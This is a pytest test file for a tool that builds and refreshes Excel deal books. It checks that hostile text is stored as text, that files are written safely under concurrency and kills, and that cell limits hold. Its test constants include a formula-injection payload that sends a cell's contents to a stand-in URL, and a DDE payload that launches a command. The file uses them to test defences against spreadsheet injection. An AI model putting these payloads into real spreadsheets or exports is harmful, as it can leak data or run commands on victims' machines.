"""Deal books on disk (issue 11): text written as text (never a formula), `ascent-xl new` never
replaces or shadows what it did not create, safe writes (an edit saved during a refresh
survives, a kill during the backup leaves a valid backup, two refreshes of one book: one refused),
and the cells-per-book limit."""

from __future__ import annotations

import csv
import io
import math
import os
import signal
import subprocess
import sys
import textwrap
import time
from pathlib import Path

import pytest
from click.testing import CliRunner
from openpyxl import Workbook, load_workbook

from ascent_xl.cli import _register, cli
from ascent_xl.errors import InputError, WorkbookError
from ascent_xl.excel import layout as L
from ascent_xl.excel import workbook_io
from ascent_xl.excel.book import Formula, OpenpyxlBook, XlwingsBook, put
from ascent_xl.excel.refresh import refresh_book
from ascent_xl.excel.safety import MAX_CELLS_ENV, count_cells
from ascent_xl.excel.template import build_template, entry_module_text
from ascent_xl.excel.workbook_io import (
    FULL_REFRESH_ENV,
    check_module_name,
    new_deal_book,
    refresh_file,
)
from ascent_xl.fileio import (
    FileBusyError,
    FileChangedError,
    atomic_write,
    backup_path,
    file_lock,
    lock_path,
)
from ascent_xl.samples import SAMPLE_EVENTS, SAMPLE_VWAPS, data_path
from tests.helpers.books import copy_book, load, table_records
from tests.helpers.fake_xlwings import FakeBook

_register()


@pytest.fixture(autouse=True)
def _full_refresh(monkeypatch):
    """These tests are about what a refresh writes: every refresh writes (a book whose results
    are current is otherwise left as it is; tests/excel/test_refresh_unchanged.py)."""
    monkeypatch.setenv(FULL_REFRESH_ENV, "1")

HOSTILE = '=HYPERLINK("http://x"&Inputs!B10)'
CMD = "=cmd|' /C calc'!A0"
REPO = Path(__file__).resolve().parents[2]


@pytest.fixture(scope="module")
def template(tmp_path_factory):
    return build_template(tmp_path_factory.mktemp("template"), xlsm=False)[0]


@pytest.fixture()
def book(template, tmp_path):
    return copy_book(template, tmp_path)


# ---------------------------------------------------------------------------------------------
# injection: every text the project writes lands as text


@pytest.fixture(scope="module")
def hostile_files(tmp_path_factory):
    """A terms file whose deal name is HOSTILE and issuer CMD, and the sample events plus a
    holder sale whose Note is HOSTILE (the holder's name) and Value CMD (free text the ledger
    carries along)."""
    folder = tmp_path_factory.mktemp("hostile")
    terms = folder / "deal.toml"
    assert CliRunner().invoke(cli, ["terms", "export", str(terms)]).exit_code == 0
    lines = terms.read_text(encoding="utf-8").splitlines()
    assert lines[1].startswith("name = ") and lines[2].startswith("issuer = ")
    lines[1], lines[2] = f"name = '{HOSTILE}'", f'issuer = "{CMD}"'
    # the holder too: the sale below names it in its Note (a holder sale names its seller)
    lines = [f"holder = '{HOSTILE}'" if line.startswith("holder = ") else line for line in lines]
    terms.write_text("\n".join(lines) + "\n", encoding="utf-8")
    events = folder / "events.csv"
    with open(events, "w", encoding="utf-8", newline="") as fh:
        fh.write(data_path(SAMPLE_EVENTS).read_text(encoding="utf-8"))
        csv.writer(fh).writerow(["2023-02-01", "Holder Sale", HOSTILE, "1000", CMD])
    return terms, events


def test_a_note_named_like_a_formula_is_refused_naming_the_field(tmp_path):
    terms = tmp_path / "deal.toml"
    assert CliRunner().invoke(cli, ["terms", "export", str(terms)]).exit_code == 0
    text = terms.read_text(encoding="utf-8").replace('"Registered"', "'" + HOSTILE + "'")
    terms.write_text(text, encoding="utf-8")
    run = CliRunner().invoke(cli, ["new", str(tmp_path / "deal.xlsx"), "--terms", str(terms)])
    assert run.exit_code == 2 and "deal.toml: notes." in run.output and ".name:" in run.output
    assert not (tmp_path / "deal.xlsx").exists()


def _cells_with(wb, text):
    return [(ws.title, c.coordinate, c.data_type) for ws in wb for row in ws.iter_rows() for c in row
            if isinstance(c.value, str) and text in c.value]


def _no_formula_mentions(wb, needle):
    return [(ws.title, c.coordinate) for ws in wb for row in ws.iter_rows() for c in row
            if c.data_type == "f" and needle in str(c.value)]


def test_hostile_text_lands_as_text_in_a_new_book_its_refresh_and_the_export(hostile_files, tmp_path):
    terms, events = hostile_files
    dest = new_deal_book(tmp_path / "deal.xlsx", terms_file=terms, events_file=events)
    wb = load_workbook(dest)
    for needle in ("HYPERLINK", "cmd|"):
        found = _cells_with(wb, needle)
        # Inputs (the name / issuer terms), Guide (the title note), Events (Note, Value),
        # Summary (the deal's name), Schedule (the sale's Note)
        assert {L.INPUTS, L.EVENTS} <= {s for s, _, _ in found}, found
        assert all(kind == "s" for _, _, kind in found), found
        assert _no_formula_mentions(wb, needle) == []
    assert {s for s, _, _ in _cells_with(wb, "HYPERLINK")} >= {L.GUIDE, L.SUMMARY, L.SCHEDULE}
    inputs = {r["Term"]: r["Value"] for r in table_records(wb, L.INPUTS, L.TERMS_TABLE)}
    assert (inputs["name"], inputs["issuer"]) == (HOSTILE, CMD)  # stored whole, read back as typed
    sale = [r for r in table_records(wb, L.EVENTS, L.EVENTS_TABLE) if r["Event"] == "Holder Sale" and r["Note"]]
    assert [(r["Note"], r["Value"]) for r in sale] == [(HOSTILE, CMD)]
    # Refreshed again, the book reads as the user meant: the same name, still text.
    result = refresh_file(dest)
    assert result.ok, result.status
    assert result.inputs.terms.name == HOSTILE
    wb = load_workbook(dest)
    assert {s for s, _, _ in _cells_with(wb, "HYPERLINK")} >= {L.SUMMARY, L.SCHEDULE}
    assert all(kind == "s" for _, _, kind in _cells_with(wb, "HYPERLINK"))
    # schedule --out x.xlsx
    out = tmp_path / "export.xlsx"
    run = CliRunner().invoke(cli, ["schedule", "--events", str(events), "--vwaps", str(data_path(SAMPLE_VWAPS)),
                                   "--terms", str(terms), "--out", str(out)])
    assert run.exit_code == 0, run.output
    exported = load_workbook(out)
    found = _cells_with(exported, "HYPERLINK")
    assert "Schedule" in {s for s, _, _ in found}
    assert all(kind == "s" for _, _, kind in found) and _no_formula_mentions(exported, "HYPERLINK") == []


def test_hostile_text_in_a_csv_export_is_prefixed_so_no_spreadsheet_runs_it(hostile_files, tmp_path):
    terms, events = hostile_files
    out = tmp_path / "export.csv"
    run = CliRunner().invoke(cli, ["schedule", "--events", str(events), "--vwaps", str(data_path(SAMPLE_VWAPS)),
                                   "--terms", str(terms), "--out", str(out)])
    assert run.exit_code == 0, run.output
    import csv

    cells = [c for row in csv.reader(out.read_text(encoding="utf-8").splitlines()) for c in row]
    hostile = [c for c in cells if "HYPERLINK" in c or "cmd|" in c]
    assert any(c.startswith("'=") for c in hostile), "the sale's Note and Value reach the schedule"
    # a text that starts a formula is prefixed; one that only mentions it later is plain text
    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")]


@pytest.mark.parametrize("text", [HOSTILE, CMD, "+1+2", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "#N/A", "'quoted"])
def test_put_stores_every_text_as_text_and_a_formula_only_when_asked(text, tmp_path):
    wb = Workbook()
    ws = wb.active
    put(ws["A1"], text)
    put(ws["A2"], Formula("=1+2"))
    put(ws["A3"], 4.5)
    wb.save(tmp_path / "t.xlsx")
    back = load_workbook(tmp_path / "t.xlsx").active
    # exactly as written (openpyxl through lxml writes a carriage return as &#13;)
    assert (back["A1"].value, back["A1"].data_type) == (text, "s")
    assert (back["A2"].value, back["A2"].data_type) == ("=1+2", "f")
    assert (back["A3"].value, back["A3"].data_type) == (4.5, "n")


def test_the_excel_path_writes_text_with_excels_text_prefix(template):
    """Excel parses a string given to a cell as if typed; the stand-in does the same, so an
    unprefixed "=..." would become a formula there."""
    wb = load(template)
    book = XlwingsBook(FakeBook(wb))
    book.write_cell(L.SUMMARY, "B4", HOSTILE)
    book.write_area(L.VALUATION_OUTPUT[0], L.VALUATION_OUTPUT[1], [["@SUM(A1)", 1.5], ["+1"]], [[None, None]])
    book.write_table(L.SCHEDULE, L.SCHEDULE_TABLE, [["-cmd"] + [None] * 29], {})
    ws = wb[L.SUMMARY]
    assert (ws["B4"].value, ws["B4"].data_type) == (HOSTILE, "s")
    sheet, area = L.VALUATION_OUTPUT
    top = wb[sheet][area.split(":")[0]]
    assert (top.value, top.data_type) == ("@SUM(A1)", "s")
    assert wb[sheet].cell(row=top.row, column=top.column + 1).value == 1.5
    assert [r["Date"] for r in table_records(wb, L.SCHEDULE, L.SCHEDULE_TABLE)] == ["-cmd"]


def test_a_formula_typed_in_an_input_cell_stays_a_formula_after_refresh(book):
    """The refresh writes outputs only: a user's formula in an input cell (a Conversions
    amount) is kept as typed, a formula, and read as the value it was saved with (one saved
    without a value is refused, naming the cell)."""
    from ascent_xl.excel.cached import cache_formula_values

    wb = load(book)
    cell = wb[L.CONVERSIONS].cell(row=L.TABLE_HEADER_ROW + 1, column=2)
    cell.value = "=100000*2"
    wb.save(book)
    result = refresh_file(book)
    assert not result.ok and "Conversions!B6: holds the formula =100000*2 with no saved value" in result.status
    cache_formula_values(book)  # what Excel does when it saves: the value beside the formula
    assert refresh_file(book).ok
    quote = load(book, data_only=True)[L.CONVERSIONS]
    assert quote["F6"].value == math.ceil(200_000 / quote["E6"].value)  # the shares of 200,000
    cell = load(book)[L.CONVERSIONS].cell(row=L.TABLE_HEADER_ROW + 1, column=2)
    assert (cell.value, cell.data_type) == ("=100000*2", "f")


# ---------------------------------------------------------------------------------------------
# ascent-xl new and the book's module


def test_new_refuses_an_existing_module_and_leaves_it_untouched(tmp_path):
    mine = tmp_path / "analysis.py"
    mine.write_text("print('my own analysis')\n", encoding="utf-8")
    os.utime(mine, ns=(1_600_000_000_000_000_000, 1_600_000_000_000_000_000))
    run = CliRunner().invoke(cli, ["new", str(tmp_path / "analysis.xlsm")])
    assert run.exit_code == 2
    assert "analysis.py exists already" in run.output
    assert mine.read_text(encoding="utf-8") == "print('my own analysis')\n"
    assert mine.stat().st_mtime_ns == 1_600_000_000_000_000_000
    assert sorted(p.name for p in tmp_path.iterdir()) == ["analysis.py"]


@pytest.mark.parametrize(("name", "says"), [
    ("class.xlsm", "keyword"), ("match.xlsm", "keyword"),
    ("json.xlsm", "exists already"), ("xlwings.xlsm", "exists already"),
    ("ascent_xl.xlsm", "exists already"), ("numpy.xlsm", "exists already"),
    ("a;b.xlsm", "letters, digits and underscores"), ('x".xlsm', "letters, digits and underscores"),
    ("x'y.xlsm", "letters, digits and underscores"), ("2024deal.xlsm", "letters, digits"),
])
def test_new_refuses_names_the_button_cannot_import(name, says, tmp_path):
    with pytest.raises(WorkbookError, match=says) as err:
        new_deal_book(tmp_path / name)
    assert name in str(err.value)
    assert list(tmp_path.iterdir()) == []


def test_new_never_deletes_a_user_folder_named_like_its_build_folder(tmp_path):
    user = tmp_path / ".deal.build"
    user.mkdir()
    (user / "notes.txt").write_text("keep me", encoding="utf-8")
    dest = new_deal_book(tmp_path / "deal.xlsm")
    assert dest.exists() and (tmp_path / "deal.py").read_text(encoding="utf-8") == entry_module_text("deal")
    assert (user / "notes.txt").read_text(encoding="utf-8") == "keep me"
    assert sorted(p.name for p in tmp_path.iterdir()) == [".deal.build", "deal.py", "deal.xlsm"]


def test_refresh_out_writes_the_copys_module_and_keeps_a_users_own(tmp_path):
    book = new_deal_book(tmp_path / "deal.xlsm")
    run = CliRunner().invoke(cli, ["refresh", str(book), "--out", str(tmp_path / "deal_copy.xlsm")])
    assert run.exit_code == 0, run.output
    assert (tmp_path / "deal_copy.py").read_text(encoding="utf-8") == entry_module_text("deal_copy")
    assert "wrote " in run.output and "deal_copy.py" in run.output
    own = tmp_path / "other.py"
    own.write_text("def main():\n    pass\n", encoding="utf-8")
    run = CliRunner().invoke(cli, ["refresh", str(book), "--out", str(tmp_path / "other.xlsm")])
    assert run.exit_code == 0, run.output
    assert own.read_text(encoding="utf-8") == "def main():\n    pass\n"
    assert "kept" in run.output
    # `copy` is the standard library's: the button's `import copy` would never reach copy.py
    run = CliRunner().invoke(cli, ["refresh", str(book), "--out", str(tmp_path / "copy.xlsm")])
    assert run.exit_code == 2 and "module named 'copy' exists already" in run.output
    assert not (tmp_path / "copy.xlsm").exists() and not (tmp_path / "copy.py").exists()


def test_check_module_name_accepts_a_plain_name(tmp_path):
    assert check_module_name(tmp_path / "acme_notes_2024.xlsm") == "acme_notes_2024"


# ---------------------------------------------------------------------------------------------
# safe writes


def test_an_edit_saved_during_a_refresh_survives(book, monkeypatch):
    assert refresh_file(book).ok  # a backup exists
    backup = backup_path(book).read_bytes()
    real = workbook_io.refresh_book

    def refresh_while_the_user_saves(b, **kw):
        result = real(b, **kw)
        wb = load_workbook(book)  # the user's edit, saved while the refresh computes
        wb[L.EVENTS]["E40"] = "my note"
        wb.save(book)
        return result

    monkeypatch.setattr(workbook_io, "refresh_book", refresh_while_the_user_saves)
    with pytest.raises(FileChangedError, match="changed on disk"):
        refresh_file(book)
    assert load_workbook(book)[L.EVENTS]["E40"].value == "my note"
    assert backup_path(book).read_bytes() == backup
    assert not lock_path(book).exists()
    assert [p.name for p in book.parent.iterdir() if p.name.endswith(".tmp")] == []


_PAUSE_IN_BACKUP = textwrap.dedent("""
    import sys, time
    from pathlib import Path
    from ascent_xl import fileio

    book, ready = Path(sys.argv[1]), Path(sys.argv[2])
    real = fileio.copy_into

    def slow_copy(source, dest):
        with open(source, "rb") as src, open(dest, "wb") as out:
            out.write(src.read(1000))  # half a backup on disk ...
            out.flush()
            ready.write_text("copying")
            time.sleep(60)  # ... when the kill comes
        return real(source, dest)

    fileio.copy_into = slow_copy
    fileio.atomic_write(book, lambda tmp: tmp.write_bytes(b"new version"))
""")


def test_a_kill_during_the_backup_leaves_a_valid_backup(book, tmp_path):
    assert refresh_file(book).ok
    backup, current = backup_path(book).read_bytes(), book.read_bytes()
    ready = tmp_path / "ready"
    proc = subprocess.Popen([sys.executable, "-c", _PAUSE_IN_BACKUP, str(book), str(ready)], cwd=REPO)
    try:
        for _ in range(2400):  # up to 2 minutes on a loaded machine
            if ready.exists() or proc.poll() is not None:
                break
            time.sleep(0.05)
        assert ready.exists(), "the writer never reached the backup"
        os.kill(proc.pid, signal.SIGKILL)
        proc.wait(timeout=30)
    finally:
        if proc.poll() is None:
            proc.kill()
    assert backup_path(book).read_bytes() == backup  # the old backup, whole
    assert book.read_bytes() == current
    load_workbook(io.BytesIO(backup_path(book).read_bytes()))  # and it opens
    orphans = [p for p in book.parent.iterdir() if p.name.endswith(".tmp")]
    assert orphans and lock_path(book).exists()  # what the killed writer left
    assert refresh_file(book).ok  # the stale lock is taken over, the orphans removed
    assert [p for p in book.parent.iterdir() if p.name.endswith(".tmp")] == []
    assert backup_path(book).read_bytes() == current


_HOLD_REFRESH = textwrap.dedent("""
    import sys, time
    from pathlib import Path
    from ascent_xl.excel import workbook_io

    book, go = Path(sys.argv[1]), Path(sys.argv[2])
    real = workbook_io.refresh_book

    def waiting(b, **kw):
        while not go.exists():
            time.sleep(0.05)
        return real(b, **kw)

    workbook_io.refresh_book = waiting
    print(workbook_io.refresh_file(book).status)
""")


def _owner_written(lock: Path) -> bool:
    try:
        return bool(lock.read_text(encoding="utf-8").strip())
    except FileNotFoundError:
        return False


def test_two_concurrent_refreshes_of_one_book_one_is_refused(book, tmp_path):
    go = tmp_path / "go"
    proc = subprocess.Popen([sys.executable, "-c", _HOLD_REFRESH, str(book), str(go)], cwd=REPO,
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    try:
        # wait for the first refresh to take its lock and write its owner into it (the file is
        # created first, then written): a bound for a loaded machine, not a timing
        for _ in range(6000):
            if _owner_written(lock_path(book)) or proc.poll() is not None:
                break
            time.sleep(0.05)
        assert lock_path(book).exists(), proc.stderr.read() if proc.poll() is not None else "no lock"
        before = book.read_bytes()
        second = CliRunner().invoke(cli, ["refresh", str(book)])
        assert second.exit_code == 2
        assert f"being written by process {proc.pid}" in second.output
        assert book.read_bytes() == before and not backup_path(book).exists()
        go.write_text("go")
        out, err = proc.communicate(timeout=600)
    finally:
        if proc.poll() is None:
            proc.kill()
    assert proc.returncode == 0, err
    assert out.startswith("Refreshed ")
    assert backup_path(book).read_bytes() == before  # the first refresh's backup is the book it read


def test_a_lock_held_in_this_process_refuses_a_second_writer(tmp_path):
    target = tmp_path / "f.txt"
    with file_lock(target):
        with pytest.raises(FileBusyError, match=r"f\.txt is being written by process"):
            atomic_write(target, lambda tmp: tmp.write_text("x"))
    assert not target.exists() and not lock_path(target).exists()


def test_a_read_only_book_is_refused_and_left_as_it_is(book):
    book.chmod(0o444)
    before = book.read_bytes()
    run = CliRunner().invoke(cli, ["refresh", str(book)])
    assert run.exit_code == 2 and "read-only" in run.output and "Traceback" not in run.output
    assert book.read_bytes() == before and not backup_path(book).exists()


def test_an_unwritable_folder_is_a_clear_message(book, monkeypatch):
    def denied(*args, **kwargs):
        raise PermissionError(13, "Permission denied")

    monkeypatch.setattr("ascent_xl.fileio.tempfile.mkstemp", denied)
    run = CliRunner().invoke(cli, ["refresh", str(book)])
    assert run.exit_code == 2, run.output
    assert "cannot write in the folder" in run.output and "permission denied" in run.output


def test_a_symlinked_book_is_written_through_to_its_target(book, tmp_path):
    link_dir = tmp_path / "links"
    link_dir.mkdir()
    link = link_dir / "deal.xlsx"
    link.symlink_to(book)
    before = book.read_bytes()
    assert refresh_file(link).ok
    assert link.is_symlink() and link.resolve() == book.resolve()
    assert book.read_bytes() != before and backup_path(book).read_bytes() == before
    assert sorted(p.name for p in link_dir.iterdir()) == ["deal.xlsx"]


def test_orphan_temporary_files_of_the_book_are_removed(book):
    orphan = book.parent / f".{book.name}.abcd1234.tmp"
    orphan.write_bytes(b"half")
    bak_orphan = book.parent / f".{book.name}.bak.zz_91xyq.tmp"
    bak_orphan.write_bytes(b"half")
    other = book.parent / f".{book.name}.notes.tmp"  # not a name mkstemp makes: not ours
    other.write_bytes(b"mine")
    assert refresh_file(book).ok
    assert not orphan.exists() and not bak_orphan.exists() and other.exists()


# ---------------------------------------------------------------------------------------------
# all or nothing on the Excel path


def test_a_refresh_that_fails_late_writes_nothing_but_the_status(template, monkeypatch):
    wb = load(template)
    fake = FakeBook(wb)
    status_cell = L.CELLS[L.STATUS]
    wb[status_cell[0]][status_cell[1]].value = "OK"

    def too_many(*args, **kwargs):
        raise InputError("paths: 50,000,000 is above the 1,000,000 a book can afford")

    monkeypatch.setattr("ascent_xl.valuation.run.run_valuation", too_many)
    result = refresh_book(XlwingsBook(fake), full=True)  # full: the template's valuation is current
    assert not result.ok
    status = wb[status_cell[0]][status_cell[1]].value
    assert "paths: 50,000,000 is above" in status and status != "OK"
    sheet, cell = status_cell
    assert {(s, r, c) for s, r, c in fake.log} == {(sheet, wb[sheet][cell].row, wb[sheet][cell].column)}


def test_a_successful_refresh_ends_with_status_ok_written_last(template):
    wb = load(template)
    fake = FakeBook(wb)
    assert refresh_book(XlwingsBook(fake)).ok
    sheet, cell = L.CELLS[L.STATUS]
    assert fake.log[-1] == (sheet, wb[sheet][cell].row, wb[sheet][cell].column)
    assert wb[sheet][cell].value == "OK"


# ---------------------------------------------------------------------------------------------
# bounded work


def test_cells_are_counted_from_the_zip_without_loading(template):
    import zipfile

    from openpyxl.cell.cell import MergedCell

    wb = load_workbook(template)
    # openpyxl's own count of the cells it read (not the cells a merged range covers, which it
    # makes itself: the Valuation note over A2:D2)
    stored = sum(not isinstance(c, MergedCell) for ws in wb for c in ws._cells.values())
    assert stored < sum(len(ws._cells) for ws in wb)
    with zipfile.ZipFile(template) as zf:
        assert count_cells(zf) == stored


def test_a_book_above_the_cells_limit_is_refused_before_loading(book, monkeypatch):
    monkeypatch.setenv(MAX_CELLS_ENV, "1000")
    run = CliRunner().invoke(cli, ["refresh", str(book)])
    assert run.exit_code == 2
    assert "above the limit of 1,000 per book" in run.output and MAX_CELLS_ENV in run.output
    monkeypatch.setenv(MAX_CELLS_ENV, "lots")
    run = CliRunner().invoke(cli, ["refresh", str(book)])
    assert run.exit_code == 2 and "whole number of cells" in run.output


def test_openpyxl_book_put_is_used_by_write_cell(template):
    wb = load(template)
    OpenpyxlBook(wb).write_cell(L.SUMMARY, "B4", CMD)
    assert (wb[L.SUMMARY]["B4"].value, wb[L.SUMMARY]["B4"].data_type) == (CMD, "s")


@pytest.mark.parametrize("prefix", ["", "x:"])
def test_count_cells_across_chunk_boundaries_and_with_a_namespace_prefix(prefix, tmp_path, monkeypatch):
    import zipfile

    from ascent_xl.excel import safety

    cells = "".join(f'<{prefix}c r="A{r}"><{prefix}v>{r}</{prefix}v></{prefix}c><{prefix}c r="B{r}"/>'
                    for r in range(1, 501))  # 1,000 cells, half of them empty elements
    xml = (f'<?xml version="1.0"?><{prefix}worksheet xmlns{":x" if prefix else ""}="urn:s">'
           f"<{prefix}sheetData><{prefix}row>{cells}</{prefix}row></{prefix}sheetData>"
           f"<{prefix}cols/></{prefix}worksheet>")
    path = tmp_path / "b.zip"
    with zipfile.ZipFile(path, "w") as zf:
        zf.writestr("xl/worksheets/sheet1.xml", xml)
        zf.writestr("xl/sharedStrings.xml", "<sst><c >not a cell</c ></sst>")  # not a worksheet
    for chunk in (7, 64, 1 << 20):  # tags split across reads are counted once
        monkeypatch.setattr(safety, "_SCAN_CHUNK", chunk)
        with zipfile.ZipFile(path) as zf:
            assert count_cells(zf) == 1000
